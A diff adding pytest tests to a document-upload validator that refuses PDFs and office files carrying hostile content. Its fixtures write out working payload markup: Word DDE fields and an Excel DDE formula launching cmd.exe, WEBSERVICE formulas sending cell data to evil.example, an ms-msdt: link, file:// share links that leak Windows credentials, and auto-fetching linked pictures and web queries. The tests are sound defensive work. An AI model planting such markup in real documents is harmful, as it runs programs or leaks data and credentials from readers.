@@ -137,6 +137,23 @@ def test_a_file_whose_content_is_not_its_named_type_is_refused(fixture_content):
     assert problem.line == 17
 
 
+def test_a_damaged_office_file_is_refused_with_its_name_not_a_python_error(fixture_content):
+    """A zip whose packed data is damaged (an interrupted upload) raises zlib's error, not the zip's."""
+    import io
+    import zipfile
+
+    packed = io.BytesIO()
+    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text" * 20)
+        archive.writestr("content.xml", "<a/>")
+    data = bytearray(packed.getvalue())
+    start = 30 + len("mimetype")  # the first part's packed data, after its local header and name
+    data[start:start + 10] = bytes(byte ^ 0xFF for byte in data[start:start + 10])
+    (fixture_content / "aineistot" / "koe" / "malli.odt").write_bytes(bytes(data))
+    problem = _one(_problems(fixture_content), "bad-material")
+    assert "roadmap/aineistot/koe/malli.odt" in problem.message and "Tallenna tiedosto" in problem.message
+
+
 def test_a_file_over_the_size_limit_is_refused(fixture_content):
     big = fixture_content / "aineistot" / "koe" / "muistio.txt"
     big.write_bytes(b"a" * (MAX_BYTES + 1))
@@ -259,6 +276,53 @@ def test_a_pdfs_properties_are_checked_and_a_script_in_it_is_refused(fixture_con
         path.write_bytes(out.getvalue())
         problem = _one(_problems(fixture_content), kind)
         assert "roadmap/aineistot/koe/malli.pdf" in problem.message and HETU not in problem.message
+
+
+_LINK_ANNOTATION = b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI (%s) >> >>"
+
+
+@pytest.mark.parametrize(("case", "catalog", "extra"), [
+    # A link to a network share: opening it hands the reader's Windows credentials to the server.
+    ("file-share-link", b"", (_LINK_ANNOTATION % b"file://evil.example/jako/seuranta",)),
+    ("program-link", b"", (_LINK_ANNOTATION % b"ms-msdt:/id PCWDiagnostic",)),
+    # An address the reader opens as the document opens, with no click.
+    ("address-on-open", b"/OpenAction << /S /URI /URI (https://evil.example/avattu) >> ", ()),
+    ("address-on-open-by-reference", b"/AA << /WC 6 0 R >> ", (b"<< /S /URI /URI (https://evil.example/suljettu) >>",)),
+    # An image whose data comes from an address.
+    ("stream-from-outside", b"", (b"<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray "
+                                  b"/BitsPerComponent 8 /F (https://evil.example/kuva) /Length 0 >>\nstream\n\nendstream",)),
+    ("movie", b"", (b"<< /Type /Annot /Subtype /Movie /Rect [0 0 1 1] /Movie << /F (https://evil.example/m.mov) >> >>",)),
+])
+def test_a_pdf_that_opens_or_fetches_something_outside_it_is_refused(fixture_content, case, catalog, extra):
+    path = fixture_content / "aineistot" / "koe" / "malli.pdf"
+    path.write_bytes(pdf_bytes(DOCUMENTS["koe/malli.pdf"][1], catalog=catalog, extra=extra))
+    problem = _one(_problems(fixture_content), "bad-material")
+    assert "roadmap/aineistot/koe/malli.pdf" in problem.message and "PDF" in problem.message
+
+
+def test_a_pdfs_links_to_web_pages_are_not_refused(fixture_content):
+    path = fixture_content / "aineistot" / "koe" / "malli.pdf"
+    path.write_bytes(pdf_bytes(DOCUMENTS["koe/malli.pdf"][1], extra=(
+        _LINK_ANNOTATION % b"https://www.example.org/malli", _LINK_ANNOTATION % b"http://www.example.org/2005")))
+    assert load_roadmap(fixture_content, fixture_content.parent).material_files["koe/malli.pdf"]
+
+
+def test_a_henkilotunnus_in_a_pdfs_name_or_an_office_parts_name_is_refused(fixture_content):
+    """A PDF's custom property is named by its key, and a name may stand where a string does; an
+    office file's part is published with its name whether any other part refers to it or not."""
+    import io
+    import zipfile
+
+    for name, data in [
+        ("koe/malli.pdf", pdf_bytes(DOCUMENTS["koe/malli.pdf"][1], extra=(f"<< /Asiakas#20{HETU} (x) >>".encode(),))),
+        ("koe/malli.pdf", pdf_bytes(DOCUMENTS["koe/malli.pdf"][1], extra=(f"<< /Author /Matti#20{HETU} >>".encode(),))),
+        ("koe/ohje.docx", _rezipped("docx", "koe/ohje.docx", add={f"customXml/asiakas-{HETU}.xml": b"<a/>"})),
+    ]:
+        (fixture_content / "aineistot" / name).write_bytes(data)
+        problem = _one(_problems(fixture_content), "sensitive")
+        assert f"roadmap/aineistot/{name}" in problem.message and HETU not in problem.message
+        write_document(fixture_content / "aineistot" / name, name.rpartition(".")[2], DOCUMENTS[name][1])
+    assert zipfile.ZipFile(io.BytesIO(data)).getinfo(f"customXml/asiakas-{HETU}.xml")
 
 
 def test_a_password_inside_a_document_is_refused(fixture_content):
@@ -504,6 +568,99 @@ def test_a_hyperlink_out_of_an_office_file_is_no_remote_part(fixture_content):
         "docx", "koe/ohje.docx",
         lambda part, data: data.replace(b"</Relationships>", relationship) if part == "word/_rels/document.xml.rels" else data))
     assert load_roadmap(fixture_content, fixture_content.parent).material_files["koe/ohje.docx"]
+
+
+def _in_part(part_name: str, before: bytes, added: bytes):
+    return lambda part, data: data.replace(before, before + added, 1) if part == part_name else data
+
+
+_FIELD_BEGIN = b'<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+_FIELD_END = b'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
+_ODF_DOCUMENT = "koe/malli.odt"
+# Each: the document, its kind, the part and the text after which the hostile markup goes.
+_RUNNING_OR_FETCHING = {
+    # Word's DDE field starts a program, split into runs as Word splits it.
+    "word-dde-field": ("koe/ohje.docx", "docx", "word/document.xml", b"<w:body>", b"<w:p>" + _FIELD_BEGIN
+                       + b'<w:r><w:instrText xml:space="preserve"> dde</w:instrText></w:r><w:r><w:instrText>AUTO '
+                       b'c:\\windows\\system32\\cmd.exe "/k calc.exe"</w:instrText></w:r>' + _FIELD_END + b"</w:p>"),
+    # A simple field that fetches a picture from an address when the document is opened.
+    "word-includepicture": ("koe/ohje.docx", "docx", "word/document.xml", b"<w:body>",
+                            b'<w:p><w:fldSimple w:instr=\' INCLUDEPICTURE "https://evil.example/seuranta.png" \\d \'>'
+                            b"<w:r><w:t>k</w:t></w:r></w:fldSimple></w:p>"),
+    "word-hyperlink-field-to-share": ("koe/ohje.docx", "docx", "word/document.xml", b"<w:body>",
+                                      b'<w:p><w:fldSimple w:instr=\' HYPERLINK "file://evil.example/jako/x.docx" \'>'
+                                      b"<w:r><w:t>k</w:t></w:r></w:fldSimple></w:p>"),
+    "excel-dde-formula": ("koe/kysely.xlsx", "xlsx", "xl/worksheets/sheet1.xml", b"</is></c>",
+                          b"""<c r="B1"><f>cmd|' /C calc'!A0</f><v>0</v></c>"""),
+    "excel-webservice": ("koe/kysely.xlsx", "xlsx", "xl/worksheets/sheet1.xml", b"</is></c>",
+                         b'<c r="B1"><f>_xlfn.WEBSERVICE("https://evil.example/?"&amp;A1)</f><v>0</v></c>'),
+    "excel-macro-sheet": ("koe/kysely.xlsx", "xlsx", "[Content_Types].xml", b"<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">",
+                          b'<Override PartName="/xl/macrosheets/sheet2.xml" '
+                          b'ContentType="application/vnd.ms-excel.macrosheet+xml"/>'),
+    "powerpoint-program": ("koe/koulutus.pptx", "pptx", "ppt/slides/slide1.xml", b"<a:p><a:r>",
+                           b'<a:rPr><a:hlinkClick r:id="" action="ppaction://program"/></a:rPr>'),
+    # A hyperlink to a network share: opening it hands the reader's Windows credentials to the server.
+    "word-link-to-share": ("koe/ohje.docx", "docx", "word/_rels/document.xml.rels", b'package/2006/relationships">',
+                           f'<Relationship Id="rId99" Type="{_RELATIONSHIPS}/hyperlink" Target="file://evil.example/jako/x.docx" '
+                           f'TargetMode="External"/>'.encode()),
+    "opendocument-link-to-share": (_ODF_DOCUMENT, "odt", "content.xml", b"<office:text>",
+                                   b'<text:p><text:a xlink:href="file://evil.example/jako/x.odt">x</text:a></text:p>'),
+    "opendocument-linked-section": (_ODF_DOCUMENT, "odt", "content.xml", b"<office:text>",
+                                    b'<text:section text:name="S"><text:section-source xlink:href="https://evil.example/x.odt"/>'
+                                    b"</text:section>"),
+    "opendocument-linked-picture": (_ODF_DOCUMENT, "odt", "content.xml", b"<office:text>",
+                                    b'<text:p><draw:frame><draw:image xlink:href="https://evil.example/seuranta.png"/>'
+                                    b"</draw:frame></text:p>"),
+    # A web query Excel refreshes when the workbook opens.
+    "excel-web-query": ("koe/kysely.xlsx", "xlsx", "xl/connections.xml", None,
+                        b'<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" '
+                        b'name="Kysely" type="4" refreshOnLoad="1"><webPr url="https://evil.example/kysely"/></connection>'
+                        b"</connections>"),
+    "opendocument-linked-range": ("koe/seuranta.ods", "ods", "content.xml", b"<table:table-row>",
+                                  b'<table:table-cell><table:cell-range-source table:name="A" xlink:href="https://evil.example/x.ods" '
+                                  b'table:last-column-spanned="1" table:last-row-spanned="1"/></table:table-cell>'),
+    "opendocument-webservice": ("koe/seuranta.ods", "ods", "content.xml", b"<table:table-row>",
+                                b'<table:table-cell table:formula="of:=WEBSERVICE(&quot;https://evil.example/&quot;)"/>'),
+}
+
+
+@pytest.mark.parametrize("case", list(_RUNNING_OR_FETCHING))
+def test_an_office_file_whose_field_or_formula_runs_a_program_or_fetches_is_refused(fixture_content, case):
+    """What starts a program or fetches from the network without being a part or a relationship:
+    Word's fields, a spreadsheet's formulas, Excel 4.0 macro sheets, a slide's click that runs a
+    program, and OpenDocument's linked sections and pictures."""
+    name, kind, part, before, added = _RUNNING_OR_FETCHING[case]
+    data = _rezipped(kind, name, add={part: added}) if before is None else _rezipped(kind, name, _in_part(part, before, added))
+    assert added in _part(data, part)
+    (fixture_content / "aineistot" / name).write_bytes(data)
+    problem = _one(_problems(fixture_content), "bad-material")
+    assert f"roadmap/aineistot/{name}" in problem.message and "tallenna tiedosto uudelleen" in problem.message
+
+
+def test_ordinary_fields_and_formulas_are_not_refused(fixture_content):
+    """A page number, a hyperlink field, a sum and a sheet name with a bar in quotes pass, and so do
+    links to web pages and to a place in the document."""
+    docx = _rezipped("docx", "koe/ohje.docx", _in_part("word/document.xml", b"<w:body>", b"<w:p>" + _FIELD_BEGIN
+                     + b"<w:r><w:instrText> PAGE </w:instrText></w:r>" + _FIELD_END + b"</w:p>"
+                     b'<w:p><w:fldSimple w:instr=\' HYPERLINK "https://www.example.org/" \'><w:r><w:t>k</w:t></w:r></w:fldSimple></w:p>'
+                     b'<w:p><w:fldSimple w:instr=\' HYPERLINK \\l "Otsikko" \'><w:r><w:t>k</w:t></w:r></w:fldSimple></w:p>'))
+    xlsx = _rezipped("xlsx", "koe/kysely.xlsx", _in_part("xl/worksheets/sheet1.xml", b"</is></c>",
+                     b"""<c r="B1"><f>SUM('Vastaukset | 2020'!A1:A3)&amp;"a|b"</f><v>0</v></c>"""))
+    odt = _rezipped("odt", _ODF_DOCUMENT, _in_part("content.xml", b"<office:text>",
+                    b'<text:p><text:a xlink:href="https://www.example.org/">x</text:a>'
+                    b'<text:a xlink:href="#Otsikko">y</text:a></text:p>'))
+    (fixture_content / "aineistot" / "koe" / "ohje.docx").write_bytes(docx)
+    (fixture_content / "aineistot" / "koe" / "kysely.xlsx").write_bytes(xlsx)
+    (fixture_content / "aineistot" / _ODF_DOCUMENT).write_bytes(odt)
+    assert load_roadmap(fixture_content, fixture_content.parent).material_files["koe/kysely.xlsx"]
+
+
+def _part(data: bytes, name: str) -> bytes:
+    import io
+    import zipfile
+
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        return archive.read(name)
 
 
 @pytest.mark.parametrize("case", ["basic", "event"])
